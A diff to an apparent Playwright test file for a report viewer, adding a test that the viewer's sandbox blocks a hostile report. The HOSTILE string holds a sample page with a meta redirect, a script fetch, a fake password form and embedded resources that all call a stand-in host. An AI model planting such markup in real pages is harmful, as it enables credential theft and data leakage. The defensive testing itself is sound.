@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
+import contextlib
+import threading
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -58,13 +61,63 @@ def test_both_reports_are_made_and_open_without_a_network(
         page.get_by_role("button", name=f"Make the {name} report").click()
         # The preview is a frame of its own, after which the network never counts as idle.
         heading = {"en": "emoact: activations", "ja": "emoact: 内部活性"}[lang]
-        preview = page.frame_locator("iframe").get_by_role("heading", level=1)
+        preview = page.frame_locator("iframe").frame_locator("iframe").locator("h1")
         expect(preview).to_contain_text(heading, timeout=40_000)
         with page.expect_download() as download:
             page.get_by_role("button", name="Download", exact=True).click()
         path = tmp_path / f"{lang}.html"
         download.value.save_as(path)
         _read_offline(browser, path, lang)
+
+
+HOSTILE = """<!doctype html><title>Report</title>
+<meta http-equiv="refresh" content="0;url={stranger}/stolen">
+<base href="{stranger}/" target="_top"><script>fetch("{stranger}/script")</script>
+<h1>Pretty report</h1><p><a id="out" href="{stranger}/link">a link</a>
+<a id="new" target="_blank" href="{stranger}/window">a window</a>
+<a id="own" target="_self" href="#end">a section</a></p>
+<form action="{stranger}/form"><input type="password" name="p"><button>Log in</button></form>
+<img src="{stranger}/image"><iframe src="{stranger}/frame"></iframe>
+<p style="height: 3000px"></p><p id="end">The end</p>"""
+
+
+def test_a_report_of_a_stranger_leads_nowhere(server: Server, browser: Browser) -> None:
+    plant_grid(server.results, ["gpt2"], n_samples=3)
+    (server.results / "reports").mkdir(exist_ok=True)
+    foreign = server.results / "reports" / "foreign.html"
+    with asked_of_a_stranger() as (stranger, asked), browser.new_context() as context:
+        foreign.write_text(HOSTILE.format(stranger=stranger))
+        page = context.new_page()
+        page.goto(f"{server.url}/report?report=foreign.html")
+        report = page.frame_locator("iframe").frame_locator("iframe")
+        expect(report.get_by_role("heading", name="Pretty report")).to_be_visible()
+        report.get_by_role("button", name="Log in").click()
+        report.locator("#new").click()
+        report.locator("#own").click()
+        expect(report.locator("#end:target")).to_have_count(1)
+        expect(report.get_by_role("heading", name="Pretty report")).to_have_count(1)
+        report.locator("#out").click()
+        expect(page.get_by_role("heading", name="Report", exact=True)).to_be_visible()
+        assert len(context.pages) == 1
+        assert page.url.startswith(server.url)
+    # Must not happen: anything asked of the stranger.
+    assert asked == []
+
+
+@contextlib.contextmanager
+def asked_of_a_stranger() -> Iterator[tuple[str, list[str]]]:
+    """Address of another server, and the requests that it gets."""
+    asked: list[str] = []
+
+    class Stranger(BaseHTTPRequestHandler):
+        def parse_request(self) -> bool:
+            asked.append(str(self.raw_requestline))
+            return False
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Stranger) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", asked
+        server.shutdown()
 
 
 def file_of(name: str, text: str) -> FilePayload:
